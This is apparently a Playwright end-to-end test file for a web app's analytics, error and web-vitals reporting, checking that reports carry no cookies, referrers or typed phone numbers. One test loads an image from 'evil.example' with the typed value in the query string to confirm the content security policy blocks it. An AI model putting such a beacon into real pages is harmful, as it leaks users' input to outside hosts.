import { Hono } from 'hono';
import type { BrowserContext, Page } from 'playwright-core';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type RunningServer, type Served, serve } from '#adapters/sandbox/http/serve.ts';
import type { TestServer } from '../support/test-server.ts';
import { appOf } from './native-app.ts';
import { withPhone } from './phone-page.ts';
import { settled, shownTexts, untilUp } from './reach.ts';
import { startProxy } from './rewriting-proxy.ts';

const text = shownTexts('en');
const TYPED = '0519994443';
let server: TestServer;
let context: BrowserContext;
let page: Page;
/** Where the pages report to: a server of its own, which answers as little as a lender's may. */
let receiver: RunningServer;
/** The site as a test visits it: with addresses to report to, or as it was built. */
let site: TestServer;
let proxy: RunningServer | null;
let posts: { readonly path: string; readonly headers: Readonly<Record<string, unknown>>; readonly body: string }[];

withPhone((visit) => {
  ({ server, context, page } = visit);
});
beforeEach(async () => {
  posts = [];
  proxy = null;
  site = server;
  const app = new Hono<Served>();
  app.all('*', async (c) => {
    posts.push({ path: `${c.req.method} ${c.req.path}`, headers: c.req.header(), body: await c.req.text() });
    return c.body(null, 204);
  });
  receiver = await serve({ host: '127.0.0.1', port: 0, app });
});
afterEach(async () => {
  await Promise.all([receiver.stop(), proxy?.stop()]);
});

/** Serves each document as a build with these addresses does: they stand on its root, and their origin in its policy. */
async function reporting(
  addresses: Readonly<Record<string, string>>,
  rewritten = (html: string): string => html,
): Promise<void> {
  const attributes = Object.entries(addresses).map(([name, path]) => ` data-${name}="${receiver.origin}${path}"`);
  proxy = await startProxy(server.origin, ({ html, policy }) => ({
    html: rewritten(html.replace('<html', `<html${attributes.join('')}`)),
    policy: policy.replace('connect-src', `connect-src ${receiver.origin}`),
  }));
  site = { ...server, origin: proxy.origin };
}

const BOTH = { errors: '/errors', analytics: '/analytics' };
const bodiesAt = (path: string): readonly unknown[] =>
  posts.filter((post) => post.path === `POST ${path}`).map(({ body }) => JSON.parse(body) as unknown);
const isVital = (event: unknown): boolean => (event as { readonly name?: unknown }).name === 'webVital';
const eventsSent = (): readonly unknown[] => bodiesAt('/analytics').filter((event) => !isVital(event));

/** Everything that was said to the app's tracking. */
const tracked = (): Promise<readonly unknown[]> =>
  page.evaluate(() => (window as unknown as { tracked: readonly unknown[] }).tracked);

/** The app of a platform, which also notes what it is told to track. */
const trackingApp = (token: string): string => `${appOf(token)}
  window.tracked = [];
  window.styles = [];
  const post = window.asaanHost.postMessage;
  window.asaanHost.postMessage = function (message) {
    const { method, params } = JSON.parse(message);
    if (method === 'trackEvent') window.tracked.push(params);
    if (method === 'setTitleStyle') window.styles.push(params.style);
    return post.call(this, message);
  };`;

async function checkAndCalculate(): Promise<void> {
  await page.goto(`${site.origin}/notify`);
  await untilUp(page);
  await page.getByLabel('Phone number').fill(TYPED);
  await page.getByRole('button', { name: 'Check number' }).click();
  await page.locator('[data-status="unofficial"]').first().waitFor();
}

describe('R25 visits and buttons of the public pages', () => {
  const EVENTS = [
    { name: 'pageView', page: 'notify' },
    { name: 'button', page: 'notify', button: 'check' },
  ];

  it('R25, R74 go to the address of the build, on another origin: no cookie, no referrer, nothing typed', async () => {
    await context.addCookies([{ name: 'mark', value: 'of-a-person', url: receiver.origin }]);
    await reporting(BOTH);
    await checkAndCalculate();
    await expect.poll(eventsSent).toEqual(EVENTS);
    await page.goto(`${site.origin}/calculator`);
    const calculator = { name: 'pageView', page: 'calculator' };
    await expect.poll(eventsSent).toEqual([...EVENTS, calculator]);
    // Of two tabs that which is seen.
    await page.goto(`${site.origin}/servise`);
    await expect.poll(eventsSent).toEqual([...EVENTS, calculator, calculator]);
    for (const { headers, body } of posts) {
      expect([headers['cookie'], headers['referer'], headers['content-type']]).toEqual([
        undefined,
        undefined,
        'text/plain',
      ]);
      expect(body).not.toContain(TYPED.slice(1));
    }
    // Nothing asked for leave first.
    expect(posts.filter(({ path }) => path.startsWith('OPTIONS'))).toEqual([]);
  });

  it('R25, R74 go to the app around the page, and then to nobody else', async () => {
    await page.addInitScript({ content: trackingApp('sandbox-token-tracked') });
    await reporting(BOTH);
    await checkAndCalculate();
    await expect.poll(tracked).toEqual(EVENTS.map(({ name, ...details }) => ({ name, details })));
    expect(eventsSent()).toEqual([]);
  });

  it('Q55 go nowhere where no address is named, and nothing is loaded for them', async () => {
    const loaded: string[] = [];
    page.on('request', (request) => loaded.push(new URL(request.url()).pathname));
    await checkAndCalculate();
    await settled(page);
    expect(loaded.filter((path) => /analytics|vitals|report/.test(path))).toEqual([]);
    expect(posts).toEqual([]);
  });
});

describe('what fails', () => {
  it('is told of: code that throws, a promise that nobody awaits, what the policy refuses; each once', async () => {
    await reporting({ errors: '/errors' });
    await page.goto(`${site.origin}/calculator`);
    await untilUp(page);
    await page.evaluate((typed) => {
      for (let time = 0; time < 3; time += 1) reportError(new TypeError(`canary ${typed}`));
      void Promise.reject(new RangeError(`canary ${typed}`));
      const picture = new Image();
      picture.src = `https://evil.example/?canary=${typed}`;
    }, TYPED);
    await expect.poll(() => bodiesAt('/errors')).toHaveLength(3);
    expect(bodiesAt('/errors')).toEqual(
      expect.arrayContaining([
        { kind: 'error', name: 'TypeError', at: [], page: 'calculator' },
        { kind: 'rejection', name: 'RangeError', at: [], page: 'calculator' },
        { kind: 'policy', directive: 'img-src', blocked: 'https://evil.example', page: 'calculator' },
      ]),
    );
    expect(posts.map(({ body }) => body).join()).not.toMatch(/canary|9994443/);
  });

  it('is told of: a program that is gone, by the script inside of the page', async () => {
    await reporting({ errors: '/errors' });
    await page.addInitScript({ content: appOf('sandbox-token-reporting-gone') });
    await page.route(/\/assets\/shop-[\w-]{8}\.js$/, (route) => route.fulfill({ status: 404, body: '' }));
    await page.goto(`${site.origin}/bnpl/cartInfo`);
    await page.locator('[data-broken="shown"]').waitFor();
    await expect
      .poll(() => bodiesAt('/errors'))
      .toEqual([{ kind: 'error', name: 'ProgramMissing', at: [], page: 'cart' }]);
  });

  it('is told of: an inlined script that the policy refused before the program ran, without the page’s address', async () => {
    await reporting({ errors: '/errors' }, (html) => html.replace('<script>', '<script>/* minified again */'));
    await page.goto(`${site.origin}/notify?productOrderId=${TYPED}`);
    await expect
      .poll(() => bodiesAt('/errors'))
      .toEqual([{ kind: 'policy', directive: 'script-src-elem', blocked: 'inline', page: 'numberCheck' }]);
    expect(posts.map(({ body }) => body).join()).not.toContain(TYPED);
  });

  it('is told of: a page that could not be drawn, with the place in our own files; the app’s bar with Back returns', async () => {
    await reporting({ errors: '/errors' });
    await page.addInitScript({ content: trackingApp('sandbox-token-reporting-drawn') });
    await page.route(/\/assets\/order-[\w-]{8}\.js$/, (route) => route.fulfill({ status: 404, body: '' }));
    await page.goto(`${site.origin}/bnpl/cartInfo`);
    // Without an order it leads to the product.
    await page.waitForURL(/\/bnpl\/productInfo/);
    await page.locator('#root > *').first().waitFor();
    // The browser itself moves to a page whose code is gone, after the one reload that is made for that.
    await page.reload();
    await page.locator('#root > *').first().waitFor();
    await page.evaluate(() => {
      history.pushState(null, '', '/bnpl/productBuyDetails?productOrderId=1');
      dispatchEvent(new PopStateEvent('popstate'));
    });
    await page.getByText(text.common.broken.title).filter({ visible: true }).waitFor();
    await expect.poll(() => bodiesAt('/errors')).toHaveLength(1);
    const [report] = bodiesAt('/errors') as readonly { readonly name: string; readonly at: readonly string[] }[];
    expect(report).toMatchObject({ kind: 'error', name: 'Error', page: 'order' });
    expect(report?.at[0]).toMatch(/^[\w-]+\.js:\d+:\d+$/);
    expect(await page.evaluate(() => (window as unknown as { styles: string[] }).styles.at(-1))).toBe('plain');
  });
});

describe('vitals', () => {
  it('are told by the time that a page is left: how fast it was, and nothing else', async () => {
    await reporting(BOTH);
    const watched = page.waitForResponse(/\/assets\/web-vitals-[\w-]{8}\.js$/);
    await page.goto(`${site.origin}/home`);
    await (await watched).finished();
    await settled(page);
    await page.goto(`${site.origin}/about`);
    const names = (): readonly unknown[] =>
      bodiesAt('/analytics')
        .filter((event) => (event as { readonly page: string }).page === 'home')
        .map((event) => (event as { readonly vital: string }).vital)
        .sort();
    await expect.poll(names).toEqual(expect.arrayContaining(['CLS', 'FCP', 'LCP', 'TTFB']));
    for (const event of bodiesAt('/analytics').filter(isVital) as readonly Record<string, unknown>[]) {
      expect(Object.keys(event).sort()).toEqual(['name', 'page', 'value', 'vital']);
      expect(Number.isInteger(event['value'])).toBe(true);
    }
  });
});
